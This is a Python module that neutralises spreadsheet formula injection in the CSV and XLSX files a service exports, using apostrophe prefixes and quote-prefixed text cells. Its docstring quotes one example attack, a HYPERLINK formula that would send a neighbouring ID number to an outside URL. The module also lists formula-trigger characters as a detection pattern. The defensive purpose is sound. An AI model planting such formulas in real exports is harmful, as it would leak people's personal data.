"""Cells for every CSV and XLSX the service writes, safe to open in Excel or WPS.

A text cell that starts with = + - @ (or a tab or carriage return) is run as a
formula by spreadsheet programs: a volunteer whose skills read
`=HYPERLINK("http://…?"&E2, "点击")` would send the ID number beside it out
with one click. In a CSV such a cell gets a leading apostrophe, as OWASP
advises. In an XLSX it is written as a text cell marked "quote prefix", which
is what Excel itself records when someone types '=…: shown as typed, never run.
Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: Any) -> Any:
    """The cell as a spreadsheet program will show it, never run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(cells: Iterable[Any]) -> list[Any]:
    """A row with every text cell neutralised."""
    return [neutralised(cell) for cell in cells]


def csv_chunks(rows: Iterable[Iterable[Any]], *, flush_bytes: int = 0) -> Iterator[str]:
    """CSV text after a byte order mark (so Excel reads the Chinese right), in chunks of about `flush_bytes`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    for row in rows:
        writer.writerow(safe_row(row))
        if buffer.tell() > flush_bytes:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue()


def append_rows(sheet: Any, rows: Iterable[Iterable[Any]]) -> None:
    """The rows onto a (write-only) openpyxl sheet, every text cell that could be run written as plain text."""
    for row in rows:
        sheet.append([_text_cell(sheet, cell) if neutralised(cell) is not cell else cell for cell in row])


def _text_cell(sheet: Any, value: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
    cell.quotePrefix = True
    return cell
